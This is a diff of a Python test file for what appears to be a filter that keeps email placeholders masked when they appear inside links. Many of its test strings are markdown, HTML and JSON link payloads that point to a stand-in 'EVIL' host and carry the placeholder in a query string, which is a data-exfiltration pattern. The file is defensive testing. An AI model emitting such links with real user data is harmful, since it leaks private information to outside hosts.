@@ -63,6 +63,29 @@ CASES = [
     (f"[1]: {EVIL}/<EMAIL_1>", True),  # a markdown reference definition
     ("style='background:url(<EMAIL_1>)'", True),
     ("x" * WINDOW + "<EMAIL_1>", True),  # no space in the whole window: never trusted
+    # review finding 1: markdown destinations with spaces, on the next line, escaped breaks
+    (f"[r]: <{EVIL}/?q= <EMAIL_1>>\n\n![a][r]", True),
+    (f"![a](\n<{EVIL}/?q= <EMAIL_1>>)", True),
+    (f"![a]({EVIL}/?q=\\\n<EMAIL_1>)", True),
+    (f"![a]\n[r]\n\n[r]:\n<{EVIL}/?q= <EMAIL_1>>", True),
+    ("[me](\n<EMAIL_1>)", True),
+    ("[r]: <EMAIL_1>", True),
+    ("[a] (x <EMAIL_1>)", True),  # an unclosed ( after ]: taken as a link
+    (f"[a](<{EVIL}/?q= [b](c) <EMAIL_1>>)", True),  # a target closed inside an open one
+    ("[a](x [b](<y )) <EMAIL_1>>)", True),
+    ("<x-app:<EMAIL_1>>", True),  # an autolink, any scheme
+    ("<evil?body=<EMAIL_1>>", True),
+    (f'<img src="{EVIL}/?x=1&href=x <EMAIL_1>">', True),  # an attribute inside a value
+    (f"<a href=\n'{EVIL}/?a= <EMAIL_1>'>", True),
+    (f"[a](<{EVIL}/?q=" + " x" * WINDOW + " <EMAIL_1>>)", True),  # opened before the window
+    ("word " * (WINDOW // 5 + 1) + "<EMAIL_1>", True),  # so a long line with no < or > errs
+    ("[1]: https://docs.example\nWrite to <EMAIL_1>", False),
+    ('[1]: https://docs.example "Docs"\n\nWrite to <EMAIL_1>', False),
+    ('[docs](https://docs.example "t")\nWrite to <EMAIL_1>', False),
+    ("- [x] done, <EMAIL_1>", False),
+    ("[a](x\n\n(see <EMAIL_1>)", False),  # a blank line closes a target
+    ("Contact: <<EMAIL_1>>", False),  # the value alone, as a mailto autolink
+    ("<b>bold</b> <EMAIL_1>", False),
 ]
 ANSWER = (
     f"Hello <EMAIL_1>. ![x]({EVIL}/<EMAIL_1>) see {EVIL}/?q=<EMAIL_1> "
@@ -104,6 +127,12 @@ def test_a_placeholder_in_a_link_is_kept_and_counted(answer: str, linked: bool) 
         ('{"url":"https://e.example/?q=<EMAIL_1>"}', True),
         ('{"md":"![x](https://e.example/\\\\<EMAIL_1>)"}', True),
         ('{"html":"<img src=\\"//e.example/<EMAIL_1>\\">"}', True),
+        # review finding 3: JSON escapes are decoded before the rule reads the string
+        ('{"u":"\\/\\/e.example\\/?q=<EMAIL_1>"}', True),
+        ('{"u":"e.example\\/?q=<EMAIL_1>"}', True),
+        ('{"u":"https\\u003a\\u002f\\u002fe.example\\u002f?q=<EMAIL_1>"}', True),
+        ('{"md":"[r]:\\n<https://e.example/?q= <EMAIL_1>>"}', True),
+        ('{"b":"say\\u0020<EMAIL_1>"}', False),
     ],
 )
 def test_tool_arguments_keep_linked_placeholders_and_stay_json(
@@ -117,6 +146,14 @@ def test_tool_arguments_keep_linked_placeholders_and_stay_json(
     parsed, source = json.loads(out), json.loads(arguments)
     want = {k: v if linked else v.replace("<EMAIL_1>", value) for k, v in source.items()}
     assert parsed == want
+
+
+def test_an_escaped_quote_at_the_window_edge_is_no_opening_quote() -> None:
+    # the window starts with the quote of a ``\\"``: the string's run is too long to trust
+    before = '{"u":"' + "a" * 10 + '\\"' + "b" * (WINDOW - 1)
+    assert before[-WINDOW:].startswith('"')
+    assert in_link(before, json=True) is True
+    assert in_link('{"u":"' + "a b" * WINDOW + '"x":"', json=True) is False
 
 
 def test_a_bad_restore_in_links_stops_start_up(tmp_path: Path) -> None:
